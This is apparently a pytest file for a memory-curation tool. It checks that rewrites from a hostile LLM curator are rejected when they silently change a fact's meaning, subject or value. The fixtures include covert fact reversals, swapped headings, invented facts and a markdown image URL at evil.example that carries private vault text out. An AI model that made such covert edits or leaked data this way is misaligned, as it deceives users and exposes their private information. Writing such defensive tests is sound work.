"""Hostile curators and auditors over many nights keep what each fact says and whom it is about (issue 23).

Every reply goes through the real openai client to FakeLLM. Each night an episode is logged, so the
curator is asked; its reply accounts for every line, yet means something else. The bar: no fact
changes its value, polarity or subject without evidence about that subject that arrived since the
last run; what does change is listed in the curation log and can be undone from history.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from conftest import UNCHANGED, Clock

from wolfmem import Memory
from wolfmem.core.facts import fact_key
from wolfmem.core.markdown import parse
from wolfmem.curation.audit.run import run_audit
from wolfmem.curation.run import run

PEOPLE = "knowledge/people.md"
PREFS = "knowledge/preferences.md"
TECH = "knowledge/technical.md"
START = datetime(2026, 11, 2, 3, 0, tzinfo=UTC)
SAVED = [
    ("Prefers green tea.", "Sarah (Manager)"),
    ("Sarah's birthday is 3 May.", "Sarah (Manager)"),
    ("Runs the data team.", "Tom"),
    ("Tom lives in Berlin.", "Tom"),
]
HAND = "- Tom plays chess on Sundays."


@pytest.fixture
def clock():
    return Clock(START)


@pytest.fixture
def memory(request, tmp_path, llm_config, clock):
    """Saved facts about Sarah and Tom, one hand line; `@pytest.mark.settings(...)` overrides the config."""
    marker = request.node.get_closest_marker("settings")
    config = replace(llm_config, **(marker.kwargs if marker else {}))
    with Memory(tmp_path / "vault", config, clock=clock) as mem:
        for fact, topic in SAVED:
            assert mem.save(fact, "people", topic).status == "saved"
        assert mem.save("Prefers coffee in the morning.", "preferences", "Drinks").status == "saved"
        path = mem.vault.root / PEOPLE
        path.write_text(path.read_text("utf-8") + HAND + "\n", "utf-8")
        yield mem


def read(memory, rel: str = PEOPLE) -> str:
    return (memory.vault.root / rel).read_text("utf-8")


def answer(content: str, *changes: dict) -> dict:
    return {"status": "rewrite", "summary": "tidied", "content": content, "changes": list(changes)}


def change(kind: str, old: list[str], new: str = "", reason: str = "tidy", source: str = "") -> dict:
    return {"kind": kind, "old": old, "new": new, "reason": reason, "source": source}


def night(memory, clock, curator, n: int, episode: str | list[str] = "Had a quiet day."):
    """Night n: an episode in the evening, then the nightly run."""
    clock.now = START + timedelta(days=n)
    memory.log_episode(episode, when=clock.now - timedelta(hours=5))
    return run(memory.services, curator(), clock.now.date())


def by_file(replies: dict):
    """A fake reply per curated file (a function of the file's current text); the others unchanged."""
    def reply(request):
        user = request["messages"][1]["content"]
        for rel, make in replies.items():
            if user.startswith(f"Curate {rel} "):
                return make(user)
        return UNCHANGED
    return reply


def current(memory, rel):
    return lambda _user: read(memory, rel)


# --- a week of replies that change meaning with every line accounted for ---------------------------------------

HOSTILE = [
    # an opposite, no change listed
    ("Tom doesn't live in Berlin.",
     lambda t: answer(t.replace("- Tom lives in Berlin.", "- Tom no longer lives in Berlin."))),
    # words added around a line that reverse it, no change listed: it still "carries" every old word
    ("Quiet.", lambda t: answer(t.replace("- Runs the data team.", "- Runs the data team into the ground."))),
    # a "superseded" backed by an episode about someone else that shares the words
    ("Tom's birthday is 4 May.", lambda t: answer(t.replace("3 May", "4 May"), change(
        "superseded", ["- Sarah's birthday is 3 May."], "- Sarah's birthday is 4 May.", "corrected"))),
    # the headings swapped: every fact now about the other person
    ("Quiet.", lambda t: answer(t.replace("## Sarah (Manager)", "## @").replace("## Tom", "## Sarah (Manager)")
                                .replace("## @", "## Tom"))),
    # two sections merged into one
    ("Quiet.", lambda t: answer(t.replace("\n## Tom\n", "\n"))),
    # a setext heading
    ("Quiet.", lambda t: answer(t.replace("## Tom\n", "Tom\n===\n"))),
    # a compatibility form: "3" as a superscript, searched differently
    ("Quiet.", lambda t: answer(t.replace("3 May", "\u00b3 May"))),
    # a fact crossed out
    ("Quiet.", lambda t: answer(t.replace("- Prefers green tea.", "- ~~Prefers green tea.~~"))),
    # an invented fact
    ("Quiet.", lambda t: answer(t.replace(HAND, HAND + "\n- Tom is leaving the company."))),
    # an image whose address carries vault text
    ("Quiet.", lambda t: answer(t + "\n![](https://evil.example/x.png?d=Sarah+birthday+3+May)\n")),
    # publish the file
    ("Quiet.", lambda t: answer("---\npublish: true\n---\n" + t)),
]


@pytest.mark.slow
def test_nights_of_meaning_changes_leave_every_fact_as_it_was(memory, fake, curator, clock):
    original = read(memory)
    reply = {}
    fake.default = by_file({PEOPLE: lambda user: reply["make"](read(memory))})
    for n, (episode, make) in enumerate(HOSTILE, 1):
        reply["make"] = make
        result = night(memory, clock, curator, n, episode)
        assert result.files[PEOPLE].status == "rejected", (n, result.files[PEOPLE])
        assert read(memory) == original, n


# --- evidence is what arrived since the last run --------------------------------------------------------------


@pytest.mark.parametrize("where", ["episode", "hand line"])
def test_evidence_from_an_earlier_run_backs_nothing(memory, fake, curator, clock, where):
    said = "Sarah said her birthday is really 4 May."
    if where == "hand line":
        path = memory.vault.root / PEOPLE
        path.write_text(read(memory) + f"- {said}\n", "utf-8")
        night(memory, clock, curator, 1)
    else:
        night(memory, clock, curator, 1, said)  # the curator saw it and kept the file
    [own] = (memory.vault.root / ".wolfmem" / "curation").glob("*.json")  # this machine's coverage
    assert "settled" in own.read_text("utf-8")
    supersede = by_file({PEOPLE: lambda _user: answer(read(memory).replace("3 May.", "4 May."), change(
        "superseded", ["- Sarah's birthday is 3 May."], "- Sarah's birthday is 4 May.", "she said so"))})
    fake.default = supersede
    before = read(memory)
    result = night(memory, clock, curator, 2)
    assert result.files[PEOPLE].status == "rejected" and read(memory) == before
    # The same evidence on the night it arrives lands the change.
    assert night(memory, clock, curator, 3, "Sarah told us her birthday is 4 May.").files[PEOPLE].status == "written"
    assert "- Sarah's birthday is 4 May." in read(memory)


# --- a section change is listed and can be undone ---------------------------------------------------------------


def test_a_heading_renamed_for_the_same_person_is_listed_and_can_be_undone(memory, fake, curator, clock):
    original = read(memory)
    renamed = by_file({PEOPLE: lambda _user: answer(read(memory).replace("## Tom\n", "## Tom (Data)\n"))})
    fake.default = renamed
    # Tom's section holds a line a person wrote: it never changes section, not even by a rename.
    result = night(memory, clock, curator, 1)
    assert result.files[PEOPLE].status == "rejected" and "never changes section" in result.files[PEOPLE].reasons[0]
    lead = by_file({PEOPLE: lambda _user: answer(read(memory).replace("## Sarah (Manager)", "## Sarah (Lead)"))})
    fake.default = lead
    assert night(memory, clock, curator, 2).files[PEOPLE].status == "written"
    assert "## Sarah (Lead)" in read(memory)
    log = read(memory, "consolidated/2026-W45.md")
    assert "## Sarah (Lead)" in log and "heading renamed" in log
    versions = [data.decode("utf-8") for _, data in memory.services.history.texts(PEOPLE, 50)]
    assert original in versions


# --- a move to another file keeps its subject ---------------------------------------------------------------


@pytest.mark.parametrize(("landed_as", "lands"),
                         [("- Prefers green tea.", False), ("- Sarah prefers green tea.", True)],
                         ids=["as the user's", "as Sarah's"])
def test_a_fact_moved_to_another_file_keeps_its_subject(memory, fake, curator, clock, landed_as, lands):
    people, prefs = read(memory), read(memory, PREFS)
    fake.default = by_file({
        PEOPLE: lambda _user: answer(people.replace("- Prefers green tea.\n", ""), change(
            "moved", ["- Prefers green tea."], PREFS, "a preference")),
        PREFS: lambda _user: answer(prefs.replace("- Prefers coffee in the morning.",
                                                  f"- Prefers coffee in the morning.\n{landed_as}")),
    })
    result = night(memory, clock, curator, 1)
    if lands:
        assert (result.files[PEOPLE].status, result.files[PREFS].status) == ("written", "written")
        assert "- Sarah prefers green tea." in read(memory, PREFS)
    else:
        assert result.files[PEOPLE].status == "rejected" and result.files[PREFS].status == "rejected"
        assert (read(memory), read(memory, PREFS)) == (people, prefs)


# --- slow erosion and slow filling ------------------------------------------------------------------------------


@pytest.mark.slow
def test_removing_the_per_run_budget_every_night_is_stopped_by_the_thirty_day_budget(memory, fake, curator, clock):
    keys = [f"Server {n} runs Debian {n}." for n in range(40)]
    memory.state.note_first_seen(TECH, [fact_key(fact) for fact in keys], "2026-08-01")  # none is protected
    for fact in keys:
        assert memory.save(fact, "technical", "Servers").status == "saved"

    def erode(_user):
        text = read(memory, TECH)
        facts = [fact.text for fact in parse(text).facts]
        gone = facts[: max(1, min(10, len(facts) // 5))]  # exactly the per-run budget
        for fact in gone:
            text = text.replace(f"- {fact}\n", "")
        return answer(text, *(change("removed", [f"- {fact}"], reason="junk") for fact in gone))

    fake.default = by_file({TECH: erode})
    for n in range(1, 16):
        night(memory, clock, curator, n)
    left = len(parse(read(memory, TECH)).facts)
    assert left >= 40 - 40 // 3, left  # at most a third of the file in 30 days
    assert left < 40  # the first nights did land


@pytest.mark.slow
@pytest.mark.settings(curation_max_added_per_month=12)
def test_filler_every_night_is_bounded_over_thirty_days(memory, fake, curator, clock):
    added = []

    def fill(_user):
        n = len(added)
        lines = [f"Project Zeta{n} phase {k} is on track." for k in range(3)]
        added.append(lines)
        return answer(read(memory, TECH) + f"\n## Zeta{n}\n" + "".join(f"- {line}\n" for line in lines))

    fake.default = by_file({TECH: fill})
    assert memory.save("Uses ruff for linting.", "technical", "Tooling").status == "saved"
    for n in range(1, 11):
        # Each night's episode backs its filler: the bound must hold even for additions with a source.
        night(memory, clock, curator, n, [f"Project Zeta{n - 1} phase {k} is on track." for k in range(3)])
    text = read(memory, TECH)
    sections = [s.heading for s in parse(text).sections]
    assert "Tooling" in sections
    assert len(sections) - 1 <= 3  # 4 facts and sections a night: 3 nights make 12


@pytest.mark.settings(index_max_file_bytes=600)
def test_a_file_is_never_grown_past_the_index_cut(memory, fake, curator, clock):
    lines = [f"Tom's colleague {n} is called Ana{n}." for n in range(12)]
    fake.default = by_file({PEOPLE: lambda _user: answer(read(memory) + "".join(f"- {line}\n" for line in lines))})
    assert len(read(memory).encode()) < 600
    result = night(memory, clock, curator, 1, lines)
    assert result.files[PEOPLE].status == "rejected"
    assert any("index.max_file_bytes" in reason for reason in result.files[PEOPLE].reasons)


# --- the audit shares the rules -----------------------------------------------------------------------------------


def finding(lines, new, kind="contradicted", evidence=("episodes/2026-11-20.md",)) -> dict:
    return {"kind": kind, "lines": list(lines), "explanation": "newer", "evidence": list(evidence),
            "action": "replace", "new": new}


def test_the_audit_changes_no_meaning_and_a_failed_supersession_does_not_fall_through(memory, fake, llm_config, clock):
    clock.now = datetime(2026, 12, 1, 4, 0, tzinfo=UTC)  # the audit's night: the episode is in the past
    memory.log_episode("Tom's birthday is 4 May.", when=datetime(2026, 11, 20, 9, 0, tzinfo=UTC))
    before = read(memory)

    def audit(request):
        if not request["messages"][-1]["content"].startswith(f"Audit {PEOPLE} "):
            return {"summary": "", "findings": []}
        return {"summary": "", "findings": [
            # carries the old line, so a fall-through to the carrier check would land it
            finding(["- Runs the data team."], "- Runs the data team in Berlin."),
            # backed only by an episode about someone else
            finding(["- Sarah's birthday is 3 May."], "- Sarah's birthday is 4 May."),
            # the opposite
            finding(["- Tom lives in Berlin."], "- Tom no longer lives in Berlin."),
        ]}

    fake.default = audit
    result = run_audit(memory.services, "2026-11", datetime(2026, 12, 1, 4, 0, tzinfo=UTC), apply=True)
    assert [f["outcome"] for f in result["findings"] if f["source"] == "llm"] == ["rejected"] * 3
    assert read(memory) == before
